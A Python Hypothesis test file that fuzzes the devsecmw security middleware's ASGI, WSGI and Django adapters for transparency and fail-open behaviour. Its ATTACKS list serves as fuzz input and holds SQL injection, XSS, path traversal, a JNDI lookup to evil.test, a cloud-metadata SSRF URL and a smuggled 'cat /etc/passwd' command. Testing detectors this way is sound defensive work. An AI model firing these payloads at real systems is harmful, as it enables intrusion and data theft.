"""Hypothesis fuzzing of the ASGI and WSGI adapters: transparency and fail-open.

Each example is a random request (method, raw path and query bytes, latin-1 header
names and values, a body split at random points, ``more_body`` patterns, a client
disconnect) and a random app behaviour (read none, part or all of the body, in
steps; answer in chunks; raise before or after the response started; stop early).
The exchange runs twice on a scripted server, once bare and once behind devsecmw in
monitor mode, and must be identical: what the app receives (byte for byte, message
for message, read for read), what the client receives, how often the server is read,
and the app's own exception (the very same object).

Sometimes one of devsecmw's internals is made to raise (detector, span start and
end, signal recording, body parsing, response sniffing, client table, request model):
the exchange must still be identical, no devsecmw exception escapes, and every
injected failure that fired is reported (observer) and counted in
``devsecmw.errors``. Any other internal error fails the example.
"""

from __future__ import annotations

import asyncio
import contextlib
import copy
import io
import sys
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from typing import Any
from unittest import mock
from wsgiref.util import FileWrapper

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devsecmw.asgi import SecurityMiddleware as AsgiMiddleware
from devsecmw.wsgi import SecurityMiddleware as WsgiMiddleware

pytestmark = pytest.mark.internal_errors_expected  # checked per example below, by type

FUZZ = settings(
    max_examples=250,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
OPTIONS: dict[str, Any] = {
    "time_budget": 5.0,  # detection must not depend on the machine's load
    # Small caps, so that bodies and responses cross them often (truncated inspection paths).
    "body_limit": 512,
    "response_limit": 512,
    # Examples must not depend on each other: no client gets flagged (and blocked) by earlier ones.
    **{f"flag_{kind}": 0 for kind in ("attacks", "404s", "auth_failures", "5xx")},
}


class Injected(Exception):
    """A devsecmw internal failure, forced by the test."""


class AppError(Exception):
    """The app's own exception: must reach the server unchanged (the same object)."""


# --------------------------------------------------------------------------- request strategies
ATTACKS = [
    b"1' OR '1'='1",
    b"1 UNION SELECT password FROM users--",
    b"<script>alert(document.cookie)</script>",
    b"../../../../etc/passwd",
    b"${jndi:ldap://evil.test/a}",
    b"http://169.254.169.254/latest/meta-data/",
    b"; cat /etc/passwd",
    b"eyJ" * 40,
    b"password=hunter2&token=abc",
    b"\xff\xfe\xc3(\x00\x80",
    b"%00%ff%c0%af",
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
]
piece = st.one_of(st.binary(max_size=24), st.sampled_from(ATTACKS))
raw_bytes = st.lists(piece, max_size=4).map(b"".join)
HEADER_NAMES = [
    b"content-type",
    b"content-length",
    b"transfer-encoding",
    b"cookie",
    b"authorization",
    b"user-agent",
    b"x-forwarded-for",
    b"referer",
    b"accept",
    b"origin",
    b"traceparent",
]
CONTENT_TYPES = [
    b"application/json",
    b"application/x-www-form-urlencoded",
    b"multipart/form-data; boundary=XyZ",
    b"text/xml",
    b"text/plain; charset=utf-8",
    b"application/octet-stream",
]
header_name = st.one_of(st.sampled_from(HEADER_NAMES), st.binary(min_size=1, max_size=12))
header_value = st.one_of(raw_bytes, st.sampled_from(CONTENT_TYPES))
headers = st.lists(st.tuples(header_name, header_value), max_size=6)
METHODS = ["GET", "POST", "PUT", "HEAD", "DELETE", "OPTIONS", "PATCH", "PROPFIND", "X" * 20]
BODY_TEMPLATES = [
    lambda v: b'{"a": "' + v + b'", "b": [1, {"c": "' + v + b'"}]}',
    lambda v: b"a=" + v + b"&b=" + v,
    lambda v: b'--XyZ\r\nContent-Disposition: form-data; name="f"\r\n\r\n' + v + b"\r\n--XyZ--\r\n",
    lambda v: b"<r><p>" + v + b"</p></r>",
    lambda v: v,
]
body = st.one_of(
    st.binary(max_size=300),
    st.tuples(st.sampled_from(BODY_TEMPLATES), raw_bytes).map(lambda tv: tv[0](tv[1])),
    # Over the inspection cap of OPTIONS (cheap to generate): truncation paths.
    st.tuples(st.sampled_from(BODY_TEMPLATES), st.integers(400, 2000)).map(lambda tn: tn[0](b"x" * tn[1])),
)


def split(data: bytes, cuts: list[int]) -> list[bytes]:
    points = sorted({c % (len(data) + 1) for c in cuts})
    out, last = [], 0
    for p in points:
        out.append(data[last:p])
        last = p
    out.append(data[last:])
    return out


@st.composite
def body_script(draw: st.DrawFn) -> tuple[bytes, list[bytes], str]:
    """The body, its chunks (empty ones included), and how the stream ends.

    ``end``: ``"complete"`` (last chunk has ``more_body`` False), ``"empty_last"`` (an extra
    empty final message), ``"disconnect"`` (the client goes away after a random chunk).
    """
    data = draw(body)
    chunks = split(data, draw(st.lists(st.integers(0, 400), max_size=5)))
    end = draw(st.sampled_from(["complete", "empty_last", "disconnect"]))
    return data, chunks, end


# --------------------------------------------------------------------------- faults
#: Internal failure points: each name patches one or more ``(module[.Class], attribute)`` to raise.
FAULTS: dict[str, tuple[tuple[str, str], ...]] = {
    "request_model": (("devsecmw.asgi", "from_asgi_scope"), ("devsecmw.wsgi", "from_wsgi_environ")),
    "detector": (("devsecmw.engine.engine.Engine", "inspect"),),
    "span_start": (("devsecmw.telemetry.Telemetry", "start"),),
    "span_finish": (("devsecmw.telemetry.Telemetry", "finish"),),
    "record_signal": (("devsecmw.telemetry.Telemetry", "_record_signals"),),
    "metrics": (("devsecmw.telemetry.Telemetry", "_metrics"),),
    "body_parse": (("devsecmw.request.HttpRequest", "parsed_body"),),
    "add_body": (("devsecmw.request.HttpRequest", "add_body"),),
    "route": (("devsecmw.asgi", "route_from_scope"), ("devsecmw.wsgi", "route_from_environ")),
    "sniffer_start": (("devsecmw.leaks.Sniffer", "for_response"),),
    "sniffer": (("devsecmw.leaks.Sniffer", "feed"),),
    "leak_scan": (("devsecmw.engine.response.ResponseRules", "inspect"),),
    "clients": (("devsecmw.clients.ClientTable", "observe"),),
    "block_decision": (("devsecmw.core", "block_wanted"),),
    "block_response": (("devsecmw.blocking", "render"),),
    "decide": (("devsecmw.core.Inspection", "_decide"),),
}
fault = st.one_of(st.none(), st.sampled_from(sorted(FAULTS)))


@dataclass
class Fired:
    count: int = 0


def _owner(path: str) -> Any:
    import importlib

    try:
        return importlib.import_module(path)
    except ImportError:
        module_name, _, cls_name = path.rpartition(".")
        return getattr(importlib.import_module(module_name), cls_name)


@contextlib.contextmanager
def injected(name: str | None, fired: Fired) -> Iterator[None]:
    if name is None:
        yield
        return

    def boom(*args: Any, **kwargs: Any) -> Any:
        fired.count += 1
        raise Injected(name)

    with contextlib.ExitStack() as stack:
        for path, attr in FAULTS[name]:
            owner = _owner(path)
            original = owner.__dict__[attr]
            replacement: Any = boom
            if isinstance(original, property):
                replacement = property(boom)
            elif isinstance(original, classmethod):
                replacement = classmethod(boom)
            stack.enter_context(mock.patch.object(owner, attr, replacement))
        yield


def errors_counted(otel: Any) -> int:
    return sum(int(p.value) for _, p in otel.metric_points("devsecmw.errors"))


class FaultCheck:
    """Per example: the only internal errors are the injected ones, and each was counted."""

    def __init__(self, otel: Any, observed: list[tuple[str, BaseException]]) -> None:
        self.otel = otel
        self.observed = observed

    @contextlib.contextmanager
    def around(self, name: str | None) -> Iterator[Fired]:
        fired = Fired()
        del self.observed[:]
        before = errors_counted(self.otel)
        with injected(name, fired):
            yield fired
        foreign = [(s, e) for s, e in self.observed if not isinstance(e, Injected)]
        assert not foreign, f"devsecmw swallowed an internal error: {foreign[0]!r}"
        if fired.count:
            assert self.observed, f"injected {name} failure fired but was not reported"
            assert errors_counted(self.otel) > before, f"injected {name} failure not counted"
        del self.observed[:]


@pytest.fixture
def faults(otel: Any, internal_errors: list[tuple[str, BaseException]]) -> FaultCheck:
    return FaultCheck(otel, internal_errors)


# =========================================================================== ASGI
@dataclass
class AsgiPlan:
    """What the app does: read ``reads`` messages (-1: until the end), answer, maybe raise."""

    reads: int
    status: int
    headers: list[tuple[bytes, bytes]]
    chunks: list[bytes]
    raise_at: str  # "never", "before_start", "after_start", "after_body", "no_response"
    echo: bool  # the response body starts with what the app read
    read_late: bool = False  # the app starts its response before it reads the body
    trailers: bool = False  # the response ends with trailers (ASGI HTTP trailers extension)


@st.composite
def asgi_plans(draw: st.DrawFn) -> AsgiPlan:
    return AsgiPlan(
        reads=draw(st.integers(-1, 4)),
        status=draw(st.sampled_from([200, 201, 204, 302, 400, 401, 403, 404, 429, 500, 503])),
        headers=draw(
            st.lists(
                st.tuples(
                    st.sampled_from([b"content-type", b"x-app", b"set-cookie", b"server"]),
                    st.one_of(st.sampled_from([b"text/html", b"application/json", b"text/plain"]), raw_bytes),
                ),
                max_size=3,
            )
        ),
        chunks=draw(
            st.lists(
                st.one_of(
                    st.binary(max_size=40),
                    st.sampled_from(
                        [
                            b'Traceback (most recent call last):\n  File "app.py", line 1\n',
                            b"You have an error in your SQL syntax; check the manual",
                            b"root:x:0:0:root:/root:/bin/bash\n",
                            b"<html><body>ok</body></html>",
                        ]
                    ),
                ),
                max_size=4,
            )
        ),
        raise_at=draw(
            st.sampled_from(["never", "never", "before_start", "after_start", "after_body", "no_response"])
        ),
        echo=draw(st.booleans()),
        read_late=draw(st.booleans()),
        trailers=draw(st.booleans()),
    )


def asgi_app(plan: AsgiPlan, run: AsgiRun) -> Any:
    received, raised = run.received, run.raised

    async def read_body() -> bytes:
        read = b""
        n = 0
        while plan.reads < 0 or n < plan.reads:
            message = await receive_()
            received.append(copy.copy(message))
            n += 1
            if message["type"] != "http.request":
                break
            read += message.get("body", b"")
            if not message.get("more_body", False):
                break
        return read

    def fail(read: bytes) -> None:
        exc = AppError(f"app failed with {len(read)} bytes read")
        raised.append(exc)
        raise exc

    receive_: Any = None

    async def app(scope: Any, receive: Any, send: Any) -> None:
        nonlocal receive_
        run.called = True
        run.scope = copy.deepcopy(scope)
        receive_ = receive
        read = b"" if plan.read_late else await read_body()
        if plan.raise_at == "before_start":
            fail(read)
        if plan.raise_at == "no_response":
            return
        start = {"type": "http.response.start", "status": plan.status, "headers": list(plan.headers)}
        if plan.trailers:
            start["trailers"] = True
        await send(start)
        if plan.read_late:
            read = await read_body()
        if plan.raise_at == "after_start":
            fail(read)
        chunks = ([read] if plan.echo else []) + plan.chunks
        for chunk in chunks:
            await send({"type": "http.response.body", "body": chunk, "more_body": True})
        await send({"type": "http.response.body", "body": b"", "more_body": False})
        if plan.trailers:
            await send(
                {"type": "http.response.trailers", "headers": [(b"x-t", b"1")], "more_trailers": False}
            )
        if plan.raise_at == "after_body":
            fail(read)

    return app


@dataclass
class AsgiRun:
    sent: list[dict[str, Any]] = field(default_factory=list)
    received: list[dict[str, Any]] = field(default_factory=list)
    server_receives: int = 0
    exception: BaseException | None = None
    raised: list[BaseException] = field(default_factory=list)
    called: bool = False
    scope: dict[str, Any] | None = None  # as the app got it
    #: The n-th ``send`` of the server raises (the client is gone), None: never.
    send_fails_at: int | None = None
    server_raised: list[BaseException] = field(default_factory=list)


class ServerError(OSError):
    """The server's own failure (a broken connection): reaches the app, and back, unchanged."""


async def _serve(app: Any, scope: dict[str, Any], script: list[dict[str, Any]], run: AsgiRun) -> None:
    """A scripted server: the script, then (like uvicorn) wait for the response, then disconnect.
    A ``{"type": "error"}`` entry makes that ``receive`` raise; ``send_fails_at`` a ``send``."""
    queue = list(script)
    done = asyncio.Event()

    def failure(what: str) -> ServerError:
        exc = ServerError(what)
        run.server_raised.append(exc)
        return exc

    async def receive() -> dict[str, Any]:
        run.server_receives += 1
        if queue:
            message = queue.pop(0)
            if message["type"] == "error":
                raise failure("receive failed")
            return message
        await asyncio.wait_for(done.wait(), 5)
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        if run.send_fails_at is not None and len(run.sent) >= run.send_fails_at:
            raise failure("client gone")
        run.sent.append(copy.copy(message))
        if message["type"] == "http.response.body" and not message.get("more_body", False):
            done.set()

    try:
        await app(scope, receive, send)
    except BaseException as exc:
        run.exception = exc


def run_asgi(app: Any, scope: dict[str, Any], script: list[dict[str, Any]], run: AsgiRun) -> AsgiRun:
    asyncio.run(_serve(app, copy.deepcopy(scope), [dict(m) for m in script], run))
    return run


@st.composite
def asgi_requests(draw: st.DrawFn) -> tuple[dict[str, Any], list[dict[str, Any]], int | None]:
    raw_path = b"/" + draw(raw_bytes)
    scope: dict[str, Any] = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": draw(st.sampled_from(["1.0", "1.1", "2"])),
        "method": draw(st.sampled_from(METHODS)),
        "scheme": "http",
        # Servers decode the path as UTF-8; here any text may arrive (surrogates excluded: not str-encodable
        # on a wire, and no server produces them).
        "path": raw_path.decode("utf-8", "replace"),
        "raw_path": raw_path,
        "query_string": draw(raw_bytes),
        "root_path": "",
        "headers": [(k.lower(), v) for k, v in draw(headers)],
        "client": ("10.1.2.3", 50000),
        "server": ("127.0.0.1", 8000),
    }
    _, chunks, end = draw(body_script())
    script: list[dict[str, Any]] = [{"type": "http.request", "body": c, "more_body": True} for c in chunks]
    if end == "disconnect":
        cut = draw(st.integers(0, len(script)))
        script = [*script[:cut], {"type": "http.disconnect"}]
    elif end == "empty_last":
        script.append({"type": "http.request", "body": b"", "more_body": False})
    else:
        script[-1]["more_body"] = False
    if draw(st.integers(0, 7)) == 0:  # the server's receive fails (connection broken mid-body)
        script.insert(draw(st.integers(0, len(script) - 1)), {"type": "error"})
    send_fails_at = draw(st.one_of(st.none(), st.none(), st.none(), st.integers(0, 4)))
    return scope, script, send_fails_at


@pytest.mark.parametrize("mode", ["monitor", "block"])
def test_asgi_fuzz_transparent_and_fail_open(otel: Any, faults: FaultCheck, mode: str) -> None:
    """Monitor mode: identical. Block mode: the block response and the app never called, or
    identical but for the server's ``receive`` count (the body is read ahead by design)."""
    mw = AsgiMiddleware(lambda *a: None, **otel.providers, **OPTIONS, mode=mode)

    @settings(FUZZ, max_examples=250 if mode == "monitor" else 150)
    @given(request=asgi_requests(), plan=asgi_plans(), fault=fault)
    def check(
        request: tuple[dict[str, Any], list[dict[str, Any]], int | None], plan: AsgiPlan, fault: str | None
    ) -> None:
        scope, script, send_fails_at = request
        bare = AsgiRun(send_fails_at=send_fails_at)
        run_asgi(asgi_app(plan, bare), scope, script, bare)
        wrapped = AsgiRun(send_fails_at=send_fails_at)
        with faults.around(fault):
            mw.app = asgi_app(plan, wrapped)
            run_asgi(mw, scope, script, wrapped)
        if mode == "block" and not wrapped.called:
            if wrapped.server_raised and wrapped.exception is not None:  # the block response's send
                assert wrapped.exception is wrapped.server_raised[-1]
            else:
                assert wrapped.exception is None, f"devsecmw raised {wrapped.exception!r}"
                assert wrapped.sent[0]["status"] == 403 and not wrapped.sent[-1].get("more_body", False)
            return
        assert wrapped.scope == bare.scope, "devsecmw changed the app's scope"
        assert wrapped.received == bare.received, "devsecmw changed what the app receives"
        assert wrapped.sent == bare.sent, "devsecmw changed what the client receives"
        if mode == "monitor":
            # Never fewer receives than the bare app (nothing dropped); more only for the body the
            # app left unread, read after its last response message (test_unread_body_asgi.py
            # pins that order), never ahead of the app.
            assert wrapped.server_receives >= bare.server_receives, "devsecmw dropped a receive"
        if bare.exception is None:
            assert wrapped.exception is None, f"devsecmw raised {wrapped.exception!r}"
        else:
            # The very object the app (or the server, through the app) raised, unchanged.
            own = [*wrapped.raised, *wrapped.server_raised]
            assert any(wrapped.exception is e for e in own), f"not the app's own: {wrapped.exception!r}"
            assert repr(wrapped.exception) == repr(bare.exception)

    check()
    assert otel.server_spans(), "the fuzzed requests were inspected"


# =========================================================================== WSGI
class Stream:
    """The server's ``wsgi.input``: the body, in the given read sizes at most; may fail mid-body."""

    def __init__(self, data: bytes, fail_after: int | None) -> None:
        self.data = data
        self.pos = 0
        self.fail_after = fail_after

    def _take(self, n: int) -> bytes:
        if self.fail_after is not None and self.pos >= self.fail_after:
            raise ConnectionResetError("client went away")
        limit = len(self.data) if self.fail_after is None else self.fail_after
        end = min(limit, self.pos + n)
        out = self.data[self.pos : end]
        self.pos = end
        return out

    def read(self, size: int | None = -1) -> bytes:
        return self._take(len(self.data) if size is None or size < 0 else size)

    def readline(self, size: int | None = -1) -> bytes:
        rest = self.data[self.pos :]
        nl = rest.find(b"\n")
        n = len(rest) if nl < 0 else nl + 1
        if size is not None and size >= 0:
            n = min(n, size)
        return self._take(n)

    def readlines(self, hint: int = -1) -> list[bytes]:
        return list(iter(self.readline, b""))

    def __iter__(self) -> Iterator[bytes]:
        return iter(self.readline, b"")


@dataclass
class WsgiPlan:
    #: ("read", n), ("read", -1), ("readline", n), ("readlines", 0), ("iter", lines)
    reads: list[tuple[str, int]]
    status: str
    headers: list[tuple[str, str]]
    chunks: list[bytes]
    kind: str  # "list", "generator", "write", "closing"
    raise_at: str  # "never", "before_start", "after_start", "in_iteration", "in_close"
    echo: bool
    consume: int  # chunks the server takes before it stops (-1: all)


@st.composite
def wsgi_plans(draw: st.DrawFn) -> WsgiPlan:
    read = st.one_of(
        st.just(("read", -1)),  # read to the end: what most frameworks do, weighted up
        st.tuples(st.just("read"), st.integers(-1, 64)),
        st.tuples(st.just("readline"), st.integers(-1, 64)),
        st.tuples(st.just("readlines"), st.just(0)),
        st.tuples(st.just("iter"), st.integers(1, 3)),
    )
    return WsgiPlan(
        reads=draw(st.lists(read, max_size=4)),
        status=draw(
            st.sampled_from(["200 OK", "204 No Content", "404 Not Found", "500 Oops", "401 X", "999"])
        ),
        headers=draw(
            st.lists(
                st.tuples(
                    st.sampled_from(["Content-Type", "X-App", "Set-Cookie"]),
                    st.one_of(
                        st.sampled_from(["text/html", "application/json"]),
                        raw_bytes.map(lambda b: b.decode("latin-1")),
                    ),
                ),
                max_size=3,
            )
        ),
        chunks=draw(st.lists(st.one_of(st.binary(max_size=40), st.sampled_from(ATTACKS)), max_size=4)),
        kind=draw(st.sampled_from(["list", "generator", "write", "closing", "sized", "file"])),
        raise_at=draw(
            st.sampled_from(
                ["never", "never", "before_start", "after_start", "in_iteration", "in_close", "exc_info"]
            )
        ),
        echo=draw(st.booleans()),
        consume=draw(st.integers(-1, 3)),
    )


@dataclass
class WsgiRun:
    reads: list[tuple[str, Any]] = field(default_factory=list)
    starts: list[tuple[str, list[tuple[str, str]]]] = field(default_factory=list)
    out: list[bytes] = field(default_factory=list)
    closes: int = 0
    exception: BaseException | None = None
    raised: list[BaseException] = field(default_factory=list)
    called: bool = False
    environ: dict[str, Any] | None = None


def wsgi_app(plan: WsgiPlan, run: WsgiRun) -> Any:
    def fail(where: str) -> None:
        exc = AppError(f"app failed {where}")
        run.raised.append(exc)
        raise exc

    def app(environ: dict[str, Any], start_response: Any) -> Any:
        run.called = True
        # The environ as the app got it, but for the stream object and devsecmw's documented marker.
        run.environ = {k: v for k, v in environ.items() if k not in ("wsgi.input", "devsecmw.inspected")}
        stream = environ["wsgi.input"]
        read = b""
        for op, n in plan.reads:
            try:
                if op == "read":
                    data: Any = stream.read(n) if n >= 0 else stream.read()
                elif op == "readline":
                    data = stream.readline(n) if n >= 0 else stream.readline()
                elif op == "readlines":
                    data = stream.readlines()
                else:
                    it = iter(stream)
                    data = [line for _, line in zip(range(n), it, strict=False)]
            except ConnectionResetError as exc:
                run.reads.append((op, repr(exc)))
                break
            run.reads.append((op, data))
            read += data if isinstance(data, bytes) else b"".join(data)
        if plan.raise_at == "before_start":
            fail("before start")
        write = start_response(plan.status, list(plan.headers))
        if plan.raise_at == "after_start":
            fail("after start")
        chunks = ([read] if plan.echo else []) + plan.chunks
        if plan.kind == "write":
            for c in chunks:
                write(c)
            if plan.raise_at == "exc_info":
                # PEP 3333 error handling: a second start_response with exc_info; the server
                # re-raises it when the headers already went out.
                try:
                    fail("then recovered")
                except AppError:
                    start_response(
                        "500 Internal Server Error", [("Content-Type", "text/plain")], sys.exc_info()
                    )
                return [b"error page"]
            return []
        if plan.kind == "list":
            return chunks

        def gen() -> Iterator[bytes]:
            for i, c in enumerate(chunks):
                if plan.raise_at == "in_iteration" and i == len(chunks) // 2:
                    fail("in iteration")
                yield c
            if plan.raise_at == "in_iteration" and not chunks:
                fail("in iteration")

        if plan.kind == "generator":
            return gen()
        if plan.kind == "file":  # the server's sendfile path (PEP 3333 wsgi.file_wrapper)

            class File(io.BytesIO):
                def close(self) -> None:
                    run.closes += 1
                    super().close()

            return environ["wsgi.file_wrapper"](File(b"".join(chunks)), 7)

        class Closing:
            def __iter__(self) -> Iterator[bytes]:
                return gen()

            def close(self) -> None:
                run.closes += 1
                if plan.raise_at == "in_close":
                    fail("in close")

        if plan.kind == "sized":  # servers use len() of a one-chunk iterable for Content-Length

            class Sized(Closing):
                def __len__(self) -> int:
                    return len(chunks)

            return Sized()
        return Closing()

    return app


def run_wsgi(app: Any, environ: dict[str, Any], stream: Stream, plan: WsgiPlan, run: WsgiRun) -> WsgiRun:
    """A server: call, iterate (maybe stopping early, as on a client disconnect), always close."""
    environ = dict(environ)
    environ["wsgi.input"] = stream
    environ["wsgi.file_wrapper"] = FileWrapper

    def start_response(status: str, headers: list[tuple[str, str]], exc_info: Any = None) -> Any:
        if exc_info is not None and any(run.out):
            raise exc_info[1].with_traceback(exc_info[2])  # too late to change the status: re-raised
        run.starts.append((status, list(headers)))
        return run.out.append

    try:
        result = app(environ, start_response)
        try:
            for i, chunk in enumerate(result):
                if plan.consume >= 0 and i >= plan.consume:
                    break
                run.out.append(chunk)
        finally:
            close = getattr(result, "close", None)
            if close is not None:
                close()
    except BaseException as exc:
        run.exception = exc
    return run


@st.composite
def wsgi_requests(draw: st.DrawFn, block: bool = False) -> tuple[dict[str, Any], bytes, int | None]:
    data = draw(body)
    environ: dict[str, Any] = {
        "REQUEST_METHOD": draw(st.sampled_from(METHODS)),
        "SCRIPT_NAME": "",
        "PATH_INFO": "/" + draw(raw_bytes).decode("latin-1"),
        "QUERY_STRING": draw(raw_bytes).decode("latin-1"),
        "SERVER_NAME": "127.0.0.1",
        "SERVER_PORT": "8000",
        "SERVER_PROTOCOL": draw(st.sampled_from(["HTTP/1.0", "HTTP/1.1"])),
        "REMOTE_ADDR": "10.1.2.3",
        "wsgi.url_scheme": "http",
    }
    for name, value in draw(headers):
        key = "HTTP_" + name.decode("latin-1").upper().replace("-", "_")
        if key in ("HTTP_CONTENT_TYPE", "HTTP_CONTENT_LENGTH"):
            key = key[5:]
        environ[key] = value.decode("latin-1")
    lengths = ["exact", "absent", "shorter", "longer", "junk", "terminated"]
    length = draw(st.sampled_from(lengths))
    environ.pop("CONTENT_LENGTH", None)
    if length == "exact":
        environ["CONTENT_LENGTH"] = str(len(data))
    elif length == "shorter":
        environ["CONTENT_LENGTH"] = str(len(data) // 2)
    elif length == "longer":
        environ["CONTENT_LENGTH"] = str(len(data) + 10)
    elif length == "junk":
        junk = ["-1", "abc", " 5", "1e3", "\u0661"]  # " 5" is read as 5, as servers do
        environ["CONTENT_LENGTH"] = draw(st.sampled_from(junk))
    elif length == "terminated":
        environ["wsgi.input_terminated"] = True
    fail_after = draw(st.one_of(st.none(), st.integers(0, max(0, len(data)))))
    return environ, data, fail_after


@pytest.mark.parametrize("mode", ["monitor", "block"])
def test_wsgi_fuzz_transparent_and_fail_open(otel: Any, faults: FaultCheck, mode: str) -> None:
    """Monitor mode: identical. Block mode: the block response and the app never called, or
    identical (the body read ahead is replayed byte for byte)."""
    mw = WsgiMiddleware(lambda e, s: [], **otel.providers, **OPTIONS, mode=mode)

    @settings(FUZZ, max_examples=250 if mode == "monitor" else 150)
    @given(request=wsgi_requests(block=mode == "block"), plan=wsgi_plans(), fault=fault)
    def check(request: tuple[dict[str, Any], bytes, int | None], plan: WsgiPlan, fault: str | None) -> None:
        environ, data, fail_after = request
        bare = WsgiRun()
        run_wsgi(wsgi_app(plan, bare), environ, Stream(data, fail_after), plan, bare)
        wrapped = WsgiRun()
        with faults.around(fault):
            mw.app = wsgi_app(plan, wrapped)
            run_wsgi(mw, environ, Stream(data, fail_after), plan, wrapped)
        if mode == "block" and not wrapped.called:
            assert wrapped.exception is None, f"devsecmw raised {wrapped.exception!r}"
            assert [status for status, _ in wrapped.starts] == ["403 Forbidden"]
            return
        assert wrapped.environ == bare.environ, "devsecmw changed the app's environ"
        assert wrapped.reads == bare.reads, "devsecmw changed what the app reads"
        assert wrapped.starts == bare.starts
        assert wrapped.out == bare.out, "devsecmw changed what the client receives"
        assert wrapped.closes == bare.closes
        if bare.exception is None:
            assert wrapped.exception is None, f"devsecmw raised {wrapped.exception!r}"
        else:
            assert wrapped.exception is not None and repr(wrapped.exception) == repr(bare.exception)
            assert wrapped.exception in wrapped.raised, "not the app's own exception"

    check()
    assert otel.server_spans(), "the fuzzed requests were inspected"


# =========================================================================== Django (WSGI)
def django_view(plan: WsgiPlan, run: WsgiRun, is_async: bool = False) -> Any:
    """The view; ``is_async``: an async view streaming an async iterator (Django under ASGI)."""
    from django.http import HttpResponse, StreamingHttpResponse

    def fail(where: str) -> None:
        exc = AppError(f"view failed {where}")
        run.raised.append(exc)
        raise exc

    def view(request: Any) -> Any:
        read = b""
        for op, n in plan.reads:
            try:
                if op == "read":
                    data: Any = request.read(n) if n >= 0 else request.read()
                elif op == "readline":
                    data = request.readline(n) if n >= 0 else request.readline()
                elif op == "readlines":
                    data = request.readlines()
                else:
                    data = [line for _, line in zip(range(n), request, strict=False)]
            except Exception as exc:  # UnreadablePostError over the stream's ConnectionResetError
                run.reads.append((op, repr(exc)))
                break
            run.reads.append((op, data))
            read += data if isinstance(data, bytes) else b"".join(data)
        if plan.raise_at == "before_start":
            fail("before the response")
        chunks = ([read] if plan.echo else []) + plan.chunks
        status = int(plan.status[:3])

        def gen() -> Iterator[bytes]:
            for i, c in enumerate(chunks):
                if plan.raise_at == "in_iteration" and i == len(chunks) // 2:
                    fail("in iteration")
                yield c

        async def agen() -> AsyncIterator[bytes]:
            for chunk in gen():
                yield chunk

        response: Any
        if plan.kind in ("generator", "closing"):
            response = StreamingHttpResponse(agen() if is_async else gen(), status=status)
        else:
            response = HttpResponse(b"".join(chunks), status=status)
        for name, value in plan.headers:
            response[name] = value
        return response

    async def async_view(request: Any) -> Any:
        return view(request)

    return async_view if is_async else view


def run_django(handler: Any, environ: dict[str, Any], stream: Stream, plan: WsgiPlan, run: WsgiRun) -> None:
    """What Django's WSGI handler does around the middleware chain: call, iterate, close."""
    from django.core.handlers.wsgi import WSGIRequest

    environ = dict(environ)
    environ["wsgi.input"] = stream
    try:
        request = WSGIRequest(environ)
        response = handler(request)
        run.starts.append((str(response.status_code), list(response.items())))
        try:
            for i, chunk in enumerate(response):
                if plan.consume >= 0 and i >= plan.consume:
                    break
                run.out.append(chunk)
        finally:
            response.close()
    except BaseException as exc:
        run.exception = exc


def test_django_fuzz_transparent_and_fail_open(otel: Any, faults: FaultCheck) -> None:
    pytest.importorskip("django")
    import django_app

    django_app.setup()
    from devsecmw.django import SecurityMiddleware as DjangoMiddleware

    mw = DjangoMiddleware(lambda r: None, **otel.providers, **OPTIONS)

    @settings(FUZZ, max_examples=100)
    @given(request=wsgi_requests(), plan=wsgi_plans(), fault=fault)
    def check(request: tuple[dict[str, Any], bytes, int | None], plan: WsgiPlan, fault: str | None) -> None:
        environ, data, fail_after = request
        bare = WsgiRun()
        run_django(django_view(plan, bare), environ, Stream(data, fail_after), plan, bare)
        wrapped = WsgiRun()
        with faults.around(fault):
            mw.get_response = django_view(plan, wrapped)
            run_django(mw, environ, Stream(data, fail_after), plan, wrapped)
        assert wrapped.reads == bare.reads, "devsecmw changed what the view reads"
        assert wrapped.starts == bare.starts
        assert wrapped.out == bare.out, "devsecmw changed what the client receives"
        if bare.exception is None:
            assert wrapped.exception is None, f"devsecmw raised {wrapped.exception!r}"
        else:
            assert wrapped.exception is not None and repr(wrapped.exception) == repr(bare.exception)
            if bare.raised:
                assert wrapped.exception in wrapped.raised, "not the view's own exception"

    check()
    assert otel.server_spans(), "the fuzzed requests were inspected"


# =========================================================================== fixed by the fuzzing
def test_failure_after_span_end_does_not_end_it_twice(otel: Any, caplog: pytest.LogCaptureFixture) -> None:
    """A metrics failure comes after the span ended: fail open without a second ``end()``
    (the SDK logs a warning for each, i.e. a log line per request while the failure lasts)."""
    fired = Fired()
    mw = AsgiMiddleware(asgi_app(AsgiPlan(-1, 200, [], [b"ok"], "never", False), AsgiRun()), **otel.providers)
    scope = {
        "type": "http",
        "method": "GET",
        "path": "/",
        "raw_path": b"/",
        "query_string": b"",
        "headers": [],
    }
    script = [{"type": "http.request", "body": b"", "more_body": False}]
    with injected("metrics", fired), caplog.at_level("WARNING"):
        run = run_asgi(mw, scope, script, AsgiRun())
    assert fired.count == 1 and run.exception is None
    assert [m["type"] for m in run.sent] == [
        "http.response.start",
        "http.response.body",
        "http.response.body",
    ]
    assert len(otel.server_spans()) == 1
    assert otel.error_count("finish", "Injected") == 1
    assert not [r for r in caplog.records if "ended span" in r.getMessage()]


# =========================================================================== block mode read-ahead


def _wsgi_block_reads(plan: WsgiPlan, environ: dict[str, Any], data: bytes, fail_after: int | None) -> None:
    bare = WsgiRun()
    run_wsgi(wsgi_app(plan, bare), environ, Stream(data, fail_after), plan, bare)
    mw = WsgiMiddleware(lambda e, s: [], mode="block", **OPTIONS)
    wrapped = WsgiRun()
    mw.app = wsgi_app(plan, wrapped)
    run_wsgi(mw, environ, Stream(data, fail_after), plan, wrapped)
    assert wrapped.called
    assert wrapped.reads == bare.reads
    assert wrapped.out == bare.out


BLOCK_ENVIRON: dict[str, Any] = {
    "REQUEST_METHOD": "POST",
    "PATH_INFO": "/",
    "SERVER_NAME": "127.0.0.1",
    "SERVER_PORT": "8000",
    "SERVER_PROTOCOL": "HTTP/1.1",
    "REMOTE_ADDR": "10.1.2.3",
    "wsgi.url_scheme": "http",
}


def test_wsgi_block_read_ahead_with_content_length_shorter_than_the_stream() -> None:
    """The issue's reproducer: ``CONTENT_LENGTH=5``, a stream holding ``hello world``; the bare
    app reads it all, block mode must replay the same bytes (it gives ``hello``)."""
